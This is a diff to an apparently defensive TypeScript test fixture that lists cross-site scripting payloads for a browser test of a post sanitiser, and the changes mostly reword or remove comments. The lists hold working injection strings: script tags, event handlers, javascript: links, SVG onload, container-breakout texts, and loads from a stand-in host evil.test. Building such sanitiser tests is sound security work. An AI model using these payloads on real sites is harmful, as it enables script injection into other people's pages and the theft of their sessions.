@@ -1,10 +1,10 @@
-/** The script every payload tries to run; a browser test looks for its effect. */
+/** Every payload tries to run this script; a browser test looks for the effect. */
 const RUN = "window.caught=1;alert(1)";
 const B64 = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString("base64");
 
-/** Texts of a post that try to run a script, load from outside, break out of their element or cover the page. */
+/** Post texts that try to run a script, load from outside, break out or cover the page. */
 export const hostileTexts: string[] = [
-  // Plain scripts, split, nested, spelled oddly, never closed.
+  // Scripts: plain, split, nested, misspelled, unclosed.
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
   `<script/x>${RUN}</script >`,
@@ -18,7 +18,7 @@ export const hostileTexts: string[] = [
   `<template><script>${RUN}</script></template>`,
   `<xmp><script>${RUN}</script></xmp>`,
   `<plaintext><script>${RUN}</script>`,
-  // Event handlers, with and without quotes, after each separator a parser accepts.
+  // Event handlers after each separator that a parser accepts.
   `<p onclick="${RUN}">x</p>`,
   `<p/onmouseover=${RUN}>x</p>`,
   `<p\u000conpointerenter=${RUN}>x</p>`,
@@ -35,7 +35,6 @@ export const hostileTexts: string[] = [
   `<marquee onstart=${RUN}>x</marquee>`,
   `<p style="animation:x 1s" onanimationstart=${RUN}>x</p>`,
   `<select autofocus onfocus=${RUN}><option>x</select>`,
-  // Addresses that run code or lead away.
   `<a href="javascript:${RUN}">x</a>`,
   `<a href="JaVaScRiPt:${RUN}">x</a>`,
   `<a href="java\tscript:${RUN}">x</a>`,
@@ -56,7 +55,6 @@ export const hostileTexts: string[] = [
   `<img src="//evil.test/pixel.gif">`,
   `<img src="/files/../v1/authenticate?x=1">`,
   `<img src="/files/abcdefgh1234?x=1#<script>${RUN}</script>">`,
-  // Embedded documents.
   `<svg onload=${RUN}><script>${RUN}</script></svg>`,
   `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
   `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
@@ -72,7 +70,6 @@ export const hostileTexts: string[] = [
   `<base href="https://evil.test/">`,
   `<link rel=stylesheet href="https://evil.test/x.css">`,
   `<portal src="https://evil.test"></portal>`,
-  // Styles that load, run or cover something.
   `<style>@import "https://evil.test/x.css"; body{display:none}</style>`,
   `<p style="background:url(javascript:${RUN})">x</p>`,
   `<p style="background-color:red;background-image:url(https://evil.test/x)">x</p>`,
@@ -81,7 +78,7 @@ export const hostileTexts: string[] = [
   `<p style="color:red&quot; onmouseover=&quot;${RUN}">x</p>`,
   `<p style="font-size:400pt;line-height:99">x</p>`,
   `<p id="main" class="btn btn-primary" name="csrf">x</p>`,
-  // Text that closes what contains it: an attribute, a comment, a title, the editor's textarea, a JSON in a script.
+  // Texts that close their container: attribute, comment, title, textarea, JSON in a script.
   `"><img src=x onerror=${RUN}>`,
   `'><img src=x onerror=${RUN}>`,
   `--><img src=x onerror=${RUN}><!--`,
@@ -100,7 +97,6 @@ export const hostileTexts: string[] = [
   `${"<b>".repeat(2000)}x`,
 ];
 
-/** Hostile texts short enough for a nickname. */
 export const hostileNicknames = [
   `"><svg onload=alert(1)>`,
   `'><img src=x onerror=alert(1)>`,
@@ -109,7 +105,6 @@ export const hostileNicknames = [
   `</script><script src=//e.te>`,
 ];
 
-/** The text as a title: no control characters, no spaces around it. */
+/** The text as a title: no control characters, trimmed. */
 export const titleOf = (text: string) => text.replace(/[\u0000-\u001f]/g, " ").trim();
-/** Hostile texts short enough for a title or an introduction. */
 export const hostileTitles = hostileTexts.map(titleOf).filter((text) => text.length <= 200);
